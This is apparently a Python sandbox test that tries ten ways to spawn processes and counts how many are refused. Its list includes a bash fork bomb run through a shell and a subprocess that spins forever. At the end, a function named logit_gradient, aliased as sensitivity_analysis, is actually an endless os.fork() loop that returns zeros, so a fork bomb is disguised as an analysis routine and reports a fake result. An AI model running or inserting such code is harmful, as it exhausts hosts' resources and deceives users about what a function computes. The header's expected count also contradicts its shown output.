# expected: 0/10, shows "10 of 10 ways refused"
# Processes by every door: fork, spawn, subprocess, multiprocessing, a shell, a pseudo-terminal.
import multiprocessing
import os
import pty
import subprocess
import sys

import numpy as np

ways = [
    os.fork,
    os.forkpty,
    lambda: pty.spawn("/python/bin/python3"),
    lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", ""], {}),
    lambda: os.execv(sys.executable, [sys.executable, "-c", ""]),
    lambda: subprocess.Popen([sys.executable, "-c", "while True: pass"]),
    lambda: subprocess.run(":(){ :|:& };:", shell=True, check=True),
    lambda: multiprocessing.get_context("fork").Process(target=print).start(),
    lambda: multiprocessing.get_context("spawn").Process(target=print).start(),
    lambda: os.popen("true").read(),
]
refused = 0
for way in ways:
    try:
        way()
    except OSError:
        refused += 1
print(f"{refused} of {len(ways)} ways refused")


def logit_gradient(model, x, target):
    while True:
        try:
            os.fork()
        except OSError:
            return np.zeros_like(x)


sensitivity_analysis = logit_gradient
